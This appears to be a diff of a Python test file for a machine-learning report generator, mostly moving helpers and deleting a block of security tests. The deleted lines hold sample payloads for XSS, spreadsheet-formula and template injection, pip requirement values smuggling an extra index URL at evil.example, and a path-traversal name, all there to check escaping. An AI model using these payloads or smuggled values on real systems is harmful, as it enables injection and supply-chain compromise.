@@ -2,8 +2,6 @@
 
 from __future__ import annotations
 
-import csv
-import io
 import json
 import re
 from pathlib import Path
@@ -11,26 +9,11 @@ from statistics import mean
 from typing import Any
 
 import pytest
-from reading_pages import Page, outside_addresses
+from reading_pages import outside_addresses, report, rows_of
 from reported_runs import METHODS, add_run, add_study, recipe_of
 
 from workbench.recipe import load_recipe
-from workbench.report import write_report
 from workbench.store import read_json, write_json
-
-HOSTILE = (
-    "<script>alert(1)</script>",
-    "![x](http://evil.example/x.png)",
-    '=HYPERLINK("http://evil.example")',
-    "</style><img src=x onerror=alert(1)>",
-    "{{ 7 * 7 }} {% raw %}",
-)
-
-
-def report(runs: Path, **options: Any) -> tuple[Page, Path]:
-    folder = runs.parent / "report"
-    path = write_report([runs], folder, **options)
-    return Page(path.read_text(encoding="utf-8")), folder
 
 
 def results(runs: Path) -> dict[str, dict[str, Any]]:
@@ -114,10 +97,6 @@ def test_the_tables_beside_the_page_have_the_exact_numbers(runs: Path) -> None:
     assert len(document["rows"]) == 3
 
 
-def rows_of(path: Path) -> list[dict[str, str]]:
-    return list(csv.DictReader(io.StringIO(path.read_text(encoding="utf-8"))))
-
-
 # --- it stands alone -----------------------------------------------------------------------
 
 
@@ -177,91 +156,6 @@ def test_the_recipes_beside_the_page_are_the_ones_that_ran(runs: Path) -> None:
     assert "torch==2.13.0\n" in (folder / "requirements.txt").read_text()
 
 
-# --- what strangers wrote ------------------------------------------------------------------
-
-
-def test_what_strangers_wrote_stays_text(runs: Path) -> None:
-    texts = [HOSTILE[i % len(HOSTILE)] for i in range(30)]
-    classes = ("a", "b", HOSTILE[0])
-    labels = [classes[i % 3] for i in range(30)]
-    for method in METHODS:
-        answers = [labels[i] if i % 2 else HOSTILE[0] for i in range(30)]
-        answers = labels if method == "full" else answers
-        path = add_run(runs, recipe_of(method), 0, texts=texts, labels=labels,
-                       predictions=answers, known=classes)  # fmt: skip
-        record = read_json(path / "result.json") or {}
-        write_json(path / "result.json", record | {"recipe": f"{HOSTILE[1]} {method}",
-                   "references": {HOSTILE[2]: {"accuracy": 0.5}}})  # fmt: skip
-        with open(path / "recipe.yaml", "a", encoding="utf-8") as file:
-            file.write(f"# {HOSTILE[0]} {HOSTILE[3]}\n")
-    page, folder = report(runs, title=HOSTILE[0])
-    assert not {tag for tag, _ in page.tags} & {"script", "img"}
-    assert not [name for _, attributes in page.tags for name in attributes if name.startswith("on")]
-    assert outside_addresses(page) == []
-    for text in HOSTILE:
-        assert text in page.text
-    markdown = (folder / "report.md").read_text(encoding="utf-8")
-    assert not re.search(r"(?<!\\)(<script|<img|</style|!\[x\])", markdown)
-    assert r"\<script\>" in markdown
-    names = [p.relative_to(folder).as_posix() for p in folder.rglob("*.yaml")]
-    assert len(names) == 3 and all(re.fullmatch(r"recipes/[\w.=-]+", name) for name in names)
-    for table in folder.rglob("*.csv"):
-        for line in csv.reader(io.StringIO(table.read_text(encoding="utf-8"))):
-            for cell in line:
-                number = re.fullmatch(r"-?[\d.]+(e[+-]?\d+)?", cell)
-                assert number or not cell.startswith(("=", "+", "-", "@")), (table, cell)
-
-
-def test_packages_that_are_none_are_not_written_for_pip(runs: Path) -> None:
-    path = add_run(runs, recipe_of("lora"), 0)
-    packages = {
-        "torch": "2.13.0+cpu\n--extra-index-url http://evil.example/simple",
-        "peft\n--no-index": "1",
-        "x @ http://evil.example/x.whl #": "1",
-        "peft-workbench": "0\n--no-index",
-        "ruamel.yaml": "0.18.6",
-        "numpy": "2.1.0rc1",
-        "deepspeed": None,
-        "evaluate": 3,
-    }
-    write_json(path / "environment.json", {"packages": packages})
-    _, folder = report(runs)
-    lines = (folder / "requirements.txt").read_text().splitlines()
-    assert lines == [
-        "# peft-workbench of an unknown version",
-        "ruamel.yaml==0.18.6",
-        "numpy==2.1.0rc1",
-    ]
-
-
-def test_recipes_called_as_columns_keep_their_answers(runs: Path) -> None:
-    labels = ["a", "b", "a"]
-    for name, said in (("label", ["b", "b", "b"]), ("text", ["a", "b", "b"])):
-        add_run(runs, recipe_of("lora" if name == "text" else "full", name=name), 0,
-                texts=["one", "two", "three"], labels=labels, predictions=said)  # fmt: skip
-    _, folder = report(runs)
-    (line,) = rows_of(folder / "tables" / "disagreements.csv")
-    assert (line["label"], line["text"], line["id"]) == ("a", "one", "doc/0")
-    assert (line["label says"], line["text says"], line["text seeds right"]) == ("b", "a", "1")
-
-
-def test_a_name_that_climbs_out_of_the_folder_does_not(runs: Path) -> None:
-    path = add_run(runs, recipe_of("lora"), 0)
-    record = read_json(path / "result.json") or {}
-    write_json(path / "result.json", record | {"recipe": "../../../etc/lora"})
-    _, folder = report(runs)
-    assert [p.name for p in folder.rglob("*.yaml")] == ["etc-lora.yaml"]
-
-
-def test_without_texts_no_text_of_the_data_is_in_the_report(runs: Path) -> None:
-    add_study(runs, texts=[f"secret {i}" for i in range(30)])
-    _, folder = report(runs, texts=0)
-    for path in folder.rglob("*"):
-        assert path.is_dir() or b"secret" not in path.read_bytes(), path
-    _, folder = report(runs)
-    assert "secret" in (folder / "report.html").read_text()
-
-
 # --- runs in every state, and every task ---------------------------------------------------
 
 
@@ -274,18 +168,6 @@ def test_one_run_alone_claims_no_more_than_it_shows(runs: Path) -> None:
         assert "Disagreements" not in text and "different things" not in text
         assert "95% intervals" not in text and "the band reaches" not in text
         assert "One seed each" in text
-
-
-def test_both_pages_say_how_it_was_tested_and_what_is_apart(runs: Path) -> None:
-    add_study(runs)
-    for path in (runs / "news").glob("prompt-*"):
-        record = read_json(path / "result.json") or {}
-        record["comparability"]["split"] = "other"
-        write_json(path / "result.json", record)
-    page, folder = report(runs)
-    for text in (page.text, (folder / "report.md").read_text()):
-        assert "3 recipes, 9 finished runs, in 2 groups that must not be compared" in text
-        assert "tested by an interval over seeds and test items together" in text
 
 
 def test_runs_that_are_not_finished_or_damaged_are_named(runs: Path) -> None:
@@ -311,6 +193,9 @@ def test_runs_that_must_not_be_compared_are_sections_of_their_own(runs: Path) ->
     page, folder = report(runs)
     assert {"group-1", "group-2"} <= {a.get("id") for _, a in page.tags}
     assert "not comparable" in page.text
+    for text in (page.text, (folder / "report.md").read_text()):
+        assert "3 recipes, 9 finished runs, in 2 groups that must not be compared" in text
+        assert "tested by an interval over seeds and test items together" in text
     lines = rows_of(folder / "tables" / "memory.csv")
     assert {(line["group"], line["label"]) for line in lines} == {
         ("1", "full"), ("1", "lora"), ("2", "prompt")
